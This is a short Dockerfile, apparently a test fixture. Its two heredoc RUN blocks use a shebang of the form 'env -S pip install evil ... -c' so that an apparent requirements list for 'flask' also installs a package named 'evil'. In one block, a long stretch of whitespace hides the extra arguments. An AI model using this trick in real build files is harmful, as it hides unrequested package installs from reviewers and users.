FROM python:3.12
RUN <<EOF
#!/usr/bin/env -S pip install evil                                                                                                                                                                                                                           -c /dev/null --only-binary=:all: -c
flask
EOF
RUN <<EOF
#!/usr/bin/env -S pip install evil --only-binary=:all: -c
flask
EOF
